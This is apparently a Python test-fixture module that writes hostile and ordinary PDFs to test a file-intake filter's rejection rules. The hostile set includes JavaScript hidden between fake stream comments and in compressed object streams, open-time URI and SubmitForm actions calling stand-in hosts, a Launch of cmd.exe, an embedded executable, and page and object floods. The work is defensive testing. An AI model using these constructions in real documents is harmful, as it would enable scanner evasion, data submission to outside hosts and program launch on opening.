"""Hostile and ordinary PDFs, written object by object with cross-reference tables a reader
accepts, so each file is what an attacker would send and a reader would act on.

`hostile_pdfs()` gives (file name, bytes, the rule that refuses it); `ordinary_pdfs()` gives
files Layak keeps.
"""

from __future__ import annotations

import io
import zlib

import pikepdf

Case = tuple[str, bytes, str]

CONTENT = b"BT /F1 16 Tf 72 760 Td (Laporan Dinas Kesehatan Kota Metro) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def assemble(objects: list[bytes], *, version: bytes = b"1.4") -> bytes:
    """Objects 1, 2, ... with a right cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
    )
    return bytes(out)


def document(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page report: catalog (1), pages (2), page (3), content (4), font (5), then
    `extra` as objects 6, 7, ..."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R " + page + b" >>",
            stream(CONTENT),
            FONT,
            *extra,
        ]
    )


def link(action: bytes) -> bytes:
    """A link annotation on the page that runs `action` when clicked."""
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % (
        action
    )


def png_up(data: bytes, columns: int) -> bytes:
    """`data` under the PNG 'Up' predictor (each row the difference from the row above), as
    /DecodeParms << /Predictor 12 >> asks a reader to undo."""
    data = data.ljust(-(-len(data) // columns) * columns, b" ")
    rows = [data[i : i + columns] for i in range(0, len(data), columns)]
    out = bytearray()
    previous = bytes(columns)
    for row in rows:
        out += b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


def packed_document(inner: bytes, catalog: bytes) -> bytes:
    """PDF 1.5 with a cross-reference stream: object 6 = `inner` packed in object stream 7
    (FlateDecode with the PNG predictor), listed in the table as a reader expects."""
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        stream(CONTENT),
        FONT,
    ]
    body = b"6 0 " + inner
    packed = zlib.compress(png_up(body, 8))
    objstm = stream(
        packed,
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 12 /Columns 8 >>",
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in enumerate([*plain, None, objstm], start=1):
        if obj is None:
            continue
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    offsets[8] = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number in range(1, 9):
        if number == 6:
            rows.append(b"\x02" + (7).to_bytes(4, "big") + bytes(2))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    out += b"8 0 obj\n%s\nendobj\n" % stream(table, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def between_stream_comments() -> bytes:
    """The finding: a script whose dictionary sits between `%>>stream` and `%endstream`
    comments, which a scanner looking for streams by their keywords skipped as stream data."""
    action = b"<< /Type /Action %>>stream\n/S /JavaScript /JS (app.alert\\(1\\)) >>"
    after = b"<< /Producer (Kantor) %endstream\n>>"
    return document(b"/OpenAction 6 0 R", extra=(action, after))


def with_password(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(document())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner="pemilik-berkas"))
    return out.getvalue()


def page_flood(count: int) -> bytes:
    """`count` small pages sharing one content stream."""
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 3 0 R >>"
    )
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(CONTENT),
            *[page] * count,
        ]
    )


def object_flood(count: int) -> bytes:
    return document(extra=tuple(b"null" for _ in range(count)))


def hostile_pdfs() -> dict[str, Case]:
    embedded = stream(b"MZ\x90\x00", b"/Type /EmbeddedFile")
    filespec = b"<< /Type /Filespec /F (data.exe) /EF << /F 7 0 R >> >>"
    return {
        "PDF JavaScript between stream comments": (
            "laporan.pdf",
            between_stream_comments(),
            "evidence.pdf_active",
        ),
        "PDF JavaScript in a predicted object stream": (
            "laporan.pdf",
            packed_document(SCRIPT, b"/OpenAction 6 0 R"),
            "evidence.pdf_active",
        ),
        "PDF opening a URI": (
            "laporan.pdf",
            document(b"/OpenAction << /S /URI /URI (https://pelacak.example/buka) >>"),
            "evidence.pdf_active",
        ),
        "PDF GoToR to a network path": (
            "laporan.pdf",
            document(
                b"/OpenAction << /S /GoToR /F (\\\\\\\\berkas-bersama\\\\umum\\\\x.pdf) "
                b"/D [0 /Fit] >>"
            ),
            "evidence.pdf_active",
        ),
        "PDF SubmitForm on opening": (
            "laporan.pdf",
            document(
                b"/OpenAction << /S /SubmitForm /F << /FS /URL "
                b"/F (https://pengumpul.example/kirim) >> /Flags 4 >>"
            ),
            "evidence.pdf_active",
        ),
        "PDF JavaScript in the name tree": (
            "laporan.pdf",
            document(
                b"/Names << /JavaScript << /Names [(buka) 6 0 R] >> >>",
                extra=(b"<< /S /JavaScript /JS 7 0 R >>", stream(b"app.alert(1)")),
            ),
            "evidence.pdf_active",
        ),
        "PDF JavaScript stream behind a link": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(link(b"<< /S /JavaScript /JS 7 0 R >>"), stream(b"app.alert(1)")),
            ),
            "evidence.pdf_active",
        ),
        "PDF JavaScript in a form field": (
            "formulir.pdf",
            document(
                b"/AcroForm << /Fields [6 0 R] >>",
                extra=(b"<< /FT /Tx /T (nama) /AA << /K " + SCRIPT + b" >> >>",),
            ),
            "evidence.pdf_active",
        ),
        "PDF Launch behind a link": (
            "laporan.pdf",
            document(page=b"/Annots [6 0 R]", extra=(link(b"<< /S /Launch /F (cmd.exe) >>"),)),
            "evidence.pdf_active",
        ),
        "PDF GoToE behind a link": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(link(b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (lampiran) >> >>"),),
            ),
            "evidence.pdf_active",
        ),
        "PDF ImportData behind a link": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(link(b"<< /S /ImportData /F (\\\\\\\\berkas\\\\data.fdf) >>"),),
            ),
            "evidence.pdf_active",
        ),
        "PDF link to a file share": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(link(b"<< /S /URI /URI (file://berkas-bersama/umum/x.exe) >>"),),
            ),
            "evidence.pdf_active",
        ),
        "PDF sound behind a link": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(link(b"<< /S /Sound /Sound 7 0 R >>"), stream(bytes(64), b"/R 8000")),
            ),
            "evidence.pdf_active",
        ),
        "PDF RichMedia annotation": (
            "laporan.pdf",
            document(
                page=b"/Annots [6 0 R]",
                extra=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>",),
            ),
            "evidence.pdf_active",
        ),
        "PDF XFA form": (
            "formulir.pdf",
            document(
                b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                extra=(stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),),
            ),
            "evidence.pdf_active",
        ),
        "PDF embedded file": (
            "laporan.pdf",
            document(
                b"/Names << /EmbeddedFiles << /Names [(data.exe) 6 0 R] >> >>",
                extra=(filespec, embedded),
            ),
            "evidence.pdf_active",
        ),
        "PDF file attachment annotation": (
            "laporan.pdf",
            document(
                page=b"/Annots [8 0 R]",
                extra=(
                    filespec,
                    embedded,
                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
                ),
            ),
            "evidence.pdf_active",
        ),
        "PDF with a password to open": (
            "laporan.pdf",
            with_password("rahasia"),
            "evidence.pdf_password",
        ),
        "PDF no reader can open": (
            "laporan.pdf",
            b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n",
            "evidence.pdf_damaged",
        ),
        "PDF of 2,001 pages": ("laporan.pdf", page_flood(2_001), "evidence.pdf_too_many_pages"),
        "PDF of 100,001 objects": (
            "laporan.pdf",
            object_flood(100_001),
            "evidence.pdf_too_many_objects",
        ),
        "PDF with an LZW stream": (
            "laporan.pdf",
            document(
                extra=(stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/Filter /LZW#44ecode"),)
            ),
            "evidence.pdf_unreadable_stream",
        ),
    }


def ordinary_pdfs() -> dict[str, bytes]:
    """Files Layak keeps: links a person clicks, a page to open at, a form to fill in, a
    document its owner protected from editing, a modern file with object streams, one whose
    cross-reference table is off (readers and qpdf rebuild it), and bookmarks with a title
    that only mentions scripts."""
    links = document(
        page=b"/Annots [6 0 R 7 0 R 8 0 R]",
        extra=(
            link(b"<< /S /URI /URI (https://jdih.kemenpppa.go.id/peraturan) >>"),
            link(b"<< /S /URI /URI (mailto:gugustugas@metrokota.go.id) >>"),
            link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
        ),
    )
    opening = document(b"/OpenAction [3 0 R /FitH 842] /PageMode /UseOutlines")
    form = document(
        b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        extra=(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /Rect [72 600 300 620] >>",),
    )
    protected = io.BytesIO()
    modern = io.BytesIO()
    with pikepdf.open(io.BytesIO(links)) as pdf:
        pdf.save(protected, encryption=pikepdf.Encryption(user="", owner="pemilik-berkas"))
        pdf.save(modern, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    shifted = document().replace(b"%\xe2\xe3\xcf\xd3\n", b"%\xe2\xe3\xcf\xd3\n\n\n\n", 1)
    bookmarks = document(
        b"/Outlines 6 0 R /Lang (id) /Title (Panduan: /JavaScript, /Launch dan /JS)",
        extra=(
            b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
            b"<< /Title (Bab 1) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>",
            b"<< /Title (Bab 2) /Parent 6 0 R /Prev 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        ),
    )
    return {
        "links to the web, mail and a page": links,
        "opening at the first page": opening,
        "a form without scripts": form,
        "protected from editing (no password to open)": protected.getvalue(),
        "object streams (PDF 1.5)": modern.getvalue(),
        "a cross-reference table that is off": shifted,
        "bookmarks, and a title naming scripts": bookmarks,
    }
